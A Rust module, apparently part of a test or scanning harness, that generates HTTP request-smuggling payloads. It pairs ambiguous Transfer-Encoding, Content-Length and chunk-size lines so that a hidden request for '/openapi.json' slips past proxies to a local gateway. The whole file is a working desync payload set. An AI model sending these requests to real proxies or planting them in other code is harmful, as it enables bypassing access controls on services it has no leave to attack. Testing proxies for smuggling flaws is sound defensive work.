//! Requests that programs read differently: where their body ends is ambiguous (RFC 9112, 6.3 and 11.2).

/// Target that the proxies refuse. A request for it reaches the gateway only in the body of another one.
pub(crate) const HIDDEN: &str = "/openapi.json";

/// Lines that may or may not say that the body is chunked. `{}` is the name.
const CODINGS: [&str; 30] = [
    "{}: chunked",
    "{}: chunked\r\n{}: identity",
    "{}: identity\r\n{}: chunked",
    "{}: chunked, identity",
    "{}: identity, chunked",
    "{}: gzip, chunked",
    "{}: chunked, chunked",
    "{}: Chunked",
    "{}: xchunked",
    "{}: chunkedx",
    "{}: \"chunked\"",
    "{}: chunked;q=1",
    "{}: chunked,",
    "{}: ,chunked",
    "{}:chunked",
    "{}:\tchunked",
    "{}: \x0bchunked",
    "{}: chunked\x0b",
    "{}: \x00chunked",
    "{} : chunked",
    " {}: chunked",
    "X: y\r\n {}: chunked",
    "X: y\n{}: chunked",
    "X: y\r{}: chunked",
    "{}:\r\n chunked",
    "{}: chun\r\n ked",
    "{}\r\n: chunked",
    "{}\x00: chunked",
    "X\x0b{}: chunked",
    "{}: cow",
];

/// Lines that may or may not say how long the body is. `{}` is the length.
const LENGTHS: [&str; 14] = [
    "Content-Length: {}\r\nContent-Length: 0",
    "Content-Length: 0\r\nContent-Length: {}",
    "Content-Length: {}, {}",
    "Content-Length: 0, {}",
    "Content-Length: +{}",
    "Content-Length: -1",
    "Content-Length: 0x{}",
    "Content-Length: 0{}",
    "Content-Length: {}\x0b",
    "Content-Length : {}",
    " Content-Length: {}",
    "Content-Length: {}e0",
    "Content_Length: {}\r\nContent-Length: 0",
    "Content-Length: 18446744073709551616",
];

/// Sizes of chunks that may or may not be valid. `{}` is the size in hexadecimal.
const SIZES: [&str; 12] = [
    "{}",
    "0x{}",
    "+{}",
    " {}",
    "{} ",
    "{};a=b",
    "{};a=\"\n\"",
    "{}\n",
    "{}\r",
    "{}\x00",
    "10000000000000000{}",
    "{}_0",
];

/// Returns all requests. In each, a request for [`HIDDEN`] is, or may be, a part of the body.
pub(crate) fn all() -> Vec<Vec<u8>> {
    let hidden = format!("GET {HIDDEN} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
    let mut all = Vec::new();
    let mut add = |lines: &str, body: &str| {
        for first in ["POST /api/v0/version", "GET /health"] {
            all.push(format!("{first} HTTP/1.1\r\nHost: 127.0.0.1\r\n{lines}\r\n\r\n{body}").into_bytes());
        }
    };
    for coding in CODINGS {
        for name in ["Transfer-Encoding", "transfer_encoding"] {
            let coding = coding.replace("{}", name);
            // A reader that ignores the coding takes all as the body; for one that obeys it, a request follows.
            let ended = format!("0\r\n\r\n{hidden}");
            add(&format!("Content-Length: {}\r\n{coding}", ended.len()), &ended);
            // The other way round.
            let chunk = format!("{:x}\r\n{hidden}\r\n0\r\n\r\n", hidden.len());
            let size_line = format!("{:x}\r\n", hidden.len()).len();
            add(&format!("{coding}\r\nContent-Length: {size_line}"), &chunk);
        }
    }
    for length in LENGTHS {
        add(&length.replace("{}", &hidden.len().to_string()), &hidden);
    }
    for size in SIZES {
        let size = size.replace("{}", &format!("{:x}", hidden.len()));
        add("Transfer-Encoding: chunked", &format!("{size}\r\n{hidden}\r\n0\r\n\r\n"));
    }
    add("Transfer-Encoding: chunked", &format!("0\r\nx: y\r\n\n{hidden}"));
    for line in ["Connection: content-length", "Connection: transfer-encoding", "Expect: 100-continue", "Upgrade: h2c"]
    {
        add(&format!("{line}\r\nContent-Length: {}", hidden.len()), &hidden);
    }
    all
}
